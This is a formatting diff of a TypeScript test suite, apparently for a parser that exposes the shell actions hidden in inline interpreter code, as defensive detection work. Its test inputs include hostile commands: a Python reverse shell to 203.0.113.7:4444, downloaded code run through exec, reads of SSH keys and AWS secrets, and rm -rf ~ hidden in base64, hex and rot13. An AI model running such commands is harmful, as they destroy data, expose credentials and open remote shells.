@@ -11,7 +11,10 @@ beforeAll(async () => {
 });
 
 /** The synthetic segments read out of a command's code, as lines. */
-const calls = (cmd: string): string[] => parse(cmd).segments.filter((s) => s.synthetic).map(line);
+const calls = (cmd: string): string[] =>
+  parse(cmd)
+    .segments.filter((s) => s.synthetic)
+    .map(line);
 const synthetic = (cmd: string): Segment[] => parse(cmd).segments.filter((s) => s.synthetic);
 
 describe('python', () => {
@@ -28,7 +31,10 @@ describe('python', () => {
     [`python -c "open('/etc/passwd', 'w').write('x')"`, ['tee /etc/passwd']],
     [`python -c "print(open('/home/dev/.ssh/id_rsa').read())"`, ['cat /home/dev/.ssh/id_rsa']],
     [`python -c "import os; print(os.environ['AWS_SECRET_ACCESS_KEY'])"`, ['printenv AWS_SECRET_ACCESS_KEY']],
-    [`python -c "from pathlib import Path; Path.home().joinpath('x'); (Path.home() / '.ssh' / 'id_rsa').unlink()"`, ['rm ~/.ssh/id_rsa']],
+    [
+      `python -c "from pathlib import Path; Path.home().joinpath('x'); (Path.home() / '.ssh' / 'id_rsa').unlink()"`,
+      ['rm ~/.ssh/id_rsa'],
+    ],
   ])('%s', (cmd, expected) => expect(calls(cmd)).toEqual(expected));
 
   it('keeps the interpreter as a segment of its own, and labels the calls', () => {
@@ -42,7 +48,9 @@ describe('python', () => {
   it('marks a path built at run time as unknown', () => {
     const rm = synthetic(`python -c "import shutil, sys; shutil.rmtree(sys.argv[1])"`)[0];
     expect(rm?.argv[2]).toEqual({ text: '$EXPR', known: false });
-    const joined = synthetic(`python -c "import os, shutil; shutil.rmtree(os.path.join(os.environ['HOME'], 'x'))"`).find((s) => s.argv[0]?.text === 'rm');
+    const joined = synthetic(
+      `python -c "import os, shutil; shutil.rmtree(os.path.join(os.environ['HOME'], 'x'))"`,
+    ).find((s) => s.argv[0]?.text === 'rm');
     expect(joined?.argv[2]).toEqual({ text: '$HOME/x', known: false });
   });
 
@@ -54,7 +62,9 @@ describe('python', () => {
 
   it('reads code run by exec once, and downloaded code as curl piped into python', () => {
     expect(calls(`python3 -c "exec('import os; os.system(\\"rm -rf ~\\")')"`)).toEqual(['rm -rf ~']);
-    const fetched = synthetic(`python3 -c "import urllib.request; exec(urllib.request.urlopen('http://example.com/p.py').read())"`);
+    const fetched = synthetic(
+      `python3 -c "import urllib.request; exec(urllib.request.urlopen('http://example.com/p.py').read())"`,
+    );
     expect(fetched.map(line)).toEqual(['curl -fsSL http://example.com/p.py', 'python3']);
     expect(fetched[1]?.pipeFrom?.[0]?.text).toBe('curl');
   });
@@ -119,7 +129,10 @@ describe('ruby, perl, php', () => {
 
 describe('raw network connections read as nc', () => {
   it.each([
-    [`python3 -c 'import socket,subprocess;s=socket.socket();s.connect(("203.0.113.7",4444));subprocess.call(["/bin/sh","-i"])'`, ['nc 203.0.113.7 4444', '/bin/sh -i']],
+    [
+      `python3 -c 'import socket,subprocess;s=socket.socket();s.connect(("203.0.113.7",4444));subprocess.call(["/bin/sh","-i"])'`,
+      ['nc 203.0.113.7 4444', '/bin/sh -i'],
+    ],
     [`python -c "import socket; socket.create_connection(('example.com', 80))"`, ['nc example.com 80']],
     [`ruby -rsocket -e 'f=TCPSocket.open("203.0.113.7",4444).to_i'`, ['nc 203.0.113.7 4444']],
     [`php -r '$s=fsockopen("203.0.113.7",4444);'`, ['nc 203.0.113.7 4444']],
@@ -144,7 +157,12 @@ describe('awk', () => {
   ])('%s', (cmd, expected) => expect(calls(cmd)).toEqual(expected));
 
   it('reads nothing from programs that only print', () => {
-    for (const cmd of [`awk -F: '{print $1}' /etc/passwd`, `awk '/a|b/ {print $2}' f`, `awk '$1 > 5 { n++ } END { print n }' data`, 'awk -v x=1 -f prog.awk data']) {
+    for (const cmd of [
+      `awk -F: '{print $1}' /etc/passwd`,
+      `awk '/a|b/ {print $2}' f`,
+      `awk '$1 > 5 { n++ } END { print n }' data`,
+      'awk -v x=1 -f prog.awk data',
+    ]) {
       expect(calls(cmd)).toEqual([]);
     }
   });
@@ -191,7 +209,17 @@ describe('the -e and -c forms of other interpreters', () => {
   });
 
   it('finds nothing in code that only prints', () => {
-    for (const cmd of [`lua -e 'print(1)'`, `julia -e 'println(1+1)'`, `elixir -e 'IO.puts System.version()'`, `erl -noshell -s init stop`, `groovy -e 'println 1'`, `raku -e 'say 1'`, `Rscript -e 'print(1)'`, 'python3 --version', 'node --test']) {
+    for (const cmd of [
+      `lua -e 'print(1)'`,
+      `julia -e 'println(1+1)'`,
+      `elixir -e 'IO.puts System.version()'`,
+      `erl -noshell -s init stop`,
+      `groovy -e 'println 1'`,
+      `raku -e 'say 1'`,
+      `Rscript -e 'print(1)'`,
+      'python3 --version',
+      'node --test',
+    ]) {
       expect(calls(cmd), cmd).toEqual([]);
     }
   });
@@ -209,7 +237,10 @@ describe('code on stdin', () => {
 describe('literals decoded on the spot', () => {
   it.each([
     [`python3 -c 'import base64, os; os.system(base64.b64decode("cm0gLXJmIH4=").decode())'`, ['rm -rf ~']],
-    [`python3 -c 'import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiB+Jyk="))'`, ['rm -rf ~']],
+    [
+      `python3 -c 'import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiB+Jyk="))'`,
+      ['rm -rf ~'],
+    ],
     [`python3 -c 'import os; os.system(bytes.fromhex("726d202d7266207e").decode())'`, ['rm -rf ~']],
     [`python3 -c 'import codecs, os; os.system(codecs.decode("ez -es ~", "rot13"))'`, ['rm -rf ~']],
     [`python3 -c 'import os; os.system("~ fr- mr"[::-1])'`, ['rm -rf ~']],
@@ -217,7 +248,10 @@ describe('literals decoded on the spot', () => {
     [`python3 -c 'import os; os.system("".join(["r", "m", " -rf ~"]))'`, ['rm -rf ~']],
     [`node -e 'require("child_process").execSync(Buffer.from("cm0gLXJmIH4=", "base64").toString())'`, ['rm -rf ~']],
     [`node -e 'require("child_process").execSync(atob("cm0gLXJmIH4="))'`, ['rm -rf ~']],
-    [`node -e 'require("child_process").execSync(String.fromCharCode(114, 109, 32, 45, 114, 102, 32, 126))'`, ['rm -rf ~']],
+    [
+      `node -e 'require("child_process").execSync(String.fromCharCode(114, 109, 32, 45, 114, 102, 32, 126))'`,
+      ['rm -rf ~'],
+    ],
     [`node -e 'require("child_process").execSync(["rm", "-rf", "~"].join(" "))'`, ['rm -rf ~']],
     [`ruby -e 'system(Base64.decode64("cm0gLXJmIH4="))'`, ['rm -rf ~']],
     [`ruby -e 'system("cm0gLXJmIH4=".unpack1("m"))'`, ['rm -rf ~']],
